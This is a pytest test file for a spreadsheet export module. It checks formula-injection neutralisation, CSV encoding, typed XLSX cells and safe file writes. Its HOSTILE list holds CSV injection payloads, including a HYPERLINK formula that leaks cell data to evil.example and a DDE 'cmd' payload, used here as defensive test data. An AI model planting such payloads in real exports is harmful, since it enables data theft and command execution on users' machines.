"""Spreadsheet exports: formula injection neutralised, BOM, typed XLSX cells, safe writes."""

import csv
import os
import stat
from datetime import date, datetime, timedelta, timezone

import pytest
from openpyxl import load_workbook

from app.exports import ExportError, export_format, write_table
from lexicon import neutralise_formula

HOSTILE = [
    "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")",
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
]
COLUMNS = ("name", "day", "amount", "at")


def _rows():
    rows = [{"name": text, "day": date(2025, 3, 10), "amount": -5.5,
             "at": datetime(2025, 3, 10, 9, 30, tzinfo=timezone(timedelta(hours=-5)))}
            for text in HOSTILE]
    rows.append({"name": "Química Andina S.A.", "day": None, "amount": 12400.0, "at": None})
    return rows


@pytest.mark.parametrize("text", HOSTILE)
def test_text_a_spreadsheet_would_run_gets_a_leading_quote(text):
    assert neutralise_formula(text) == "'" + text


@pytest.mark.parametrize("value", ["ACME S.A.", "Química = buena", "", 5, -3.5, None,
                                   date(2025, 1, 1)])
def test_ordinary_values_are_left_alone(value):
    assert neutralise_formula(value) == value


def test_csv_has_bom_iso_dates_and_no_live_formula(tmp_path):
    output = tmp_path / "out.csv"

    written = write_table(output, fmt="csv", columns=COLUMNS, rows=_rows())

    raw = output.read_bytes()
    assert written == len(HOSTILE) + 1
    assert raw.startswith(b"\xef\xbb\xbf")
    with output.open(encoding="utf-8-sig", newline="") as handle:
        read = list(csv.DictReader(handle))
    assert [row["name"] for row in read[:-1]] == ["'" + text for text in HOSTILE]
    assert read[0]["day"] == "2025-03-10"
    assert read[0]["amount"] == "-5.5"  # numbers are numbers: a minus sign is not text
    assert read[0]["at"] == "2025-03-10 14:30:00"  # UTC, in a form spreadsheets read as a time
    assert read[-1] == {"name": "Química Andina S.A.", "day": "", "amount": "12400", "at": ""}


def test_xlsx_writes_text_as_strings_dates_as_dates_and_a_bold_frozen_header(tmp_path):
    output = tmp_path / "out.xlsx"

    write_table(output, fmt="xlsx", columns=COLUMNS, rows=_rows(), sheet="alerts")

    sheet = load_workbook(output)["alerts"]
    assert [cell.value for cell in sheet[1]] == list(COLUMNS)
    assert all(cell.font.bold for cell in sheet[1])
    assert sheet.freeze_panes == "A2"
    assert sheet.auto_filter.ref == f"A1:D{len(HOSTILE) + 2}"
    for row, text in enumerate(HOSTILE, start=2):
        cell = sheet.cell(row=row, column=1)
        assert cell.data_type == "s"
        # XML reads a carriage return back as a line feed; the leading quote is what counts.
        assert cell.value == "'" + text.replace("\r", "\n")
    day = sheet.cell(row=2, column=2)
    assert day.is_date and day.value.date() == date(2025, 3, 10)
    assert sheet.cell(row=2, column=3).value == -5.5
    assert sheet.cell(row=2, column=4).value == datetime(2025, 3, 10, 14, 30)  # UTC wall time
    assert sheet.cell(row=len(HOSTILE) + 2, column=1).value == "Química Andina S.A."
    assert sheet.column_dimensions["A"].width > len("name") + 2


def test_xlsx_survives_control_characters_in_text(tmp_path):
    output = tmp_path / "out.xlsx"

    write_table(output, fmt="xlsx", columns=("name",), rows=[{"name": "ACME\x07\x00 S.A."}])

    assert load_workbook(output).active.cell(row=2, column=1).value == "ACME\ufffd\ufffd S.A."


def test_a_failed_write_leaves_no_file_and_keeps_the_old_one(tmp_path):
    output = tmp_path / "out.csv"
    output.write_text("before", encoding="utf-8")

    def rows():
        yield {"name": "one"}
        raise RuntimeError("database went away")

    with pytest.raises(RuntimeError):
        write_table(output, fmt="csv", columns=("name",), rows=rows())

    assert output.read_text(encoding="utf-8") == "before"
    assert [p.name for p in tmp_path.iterdir()] == ["out.csv"]


def test_unwritable_paths_are_refused_with_the_reason(tmp_path):
    with pytest.raises(ExportError, match="does not exist"):
        write_table(tmp_path / "missing" / "out.csv", fmt="csv", columns=("a",), rows=[])
    with pytest.raises(ExportError, match="is a directory"):
        write_table(tmp_path, fmt="csv", columns=("a",), rows=[])


def test_format_comes_from_the_option_or_the_suffix(tmp_path):
    assert export_format("XLSX", tmp_path / "a.csv") == "xlsx"
    assert export_format(None, tmp_path / "a.xlsx") == "xlsx"
    with pytest.raises(ExportError, match="unknown format 'pdf'"):
        export_format("pdf", tmp_path / "a.csv")
    with pytest.raises(ExportError, match="cannot tell the format"):
        export_format(None, tmp_path / "a.txt")


def test_more_rows_than_a_sheet_holds_is_refused_before_writing(tmp_path, monkeypatch):
    monkeypatch.setattr("app.exports.XLSX_MAX_ROWS", 2)
    output = tmp_path / "out.xlsx"

    with pytest.raises(ExportError, match="3 rows do not fit in one XLSX sheet"):
        write_table(output, fmt="xlsx", columns=("a",), rows=[{"a": n} for n in range(3)])

    assert list(tmp_path.iterdir()) == []


def test_the_file_gets_the_usual_permissions_of_a_new_file(tmp_path):
    umask = os.umask(0o022)
    try:
        write_table(tmp_path / "out.csv", fmt="csv", columns=("a",), rows=[{"a": 1}])
    finally:
        os.umask(umask)

    assert stat.S_IMODE((tmp_path / "out.csv").stat().st_mode) == 0o644
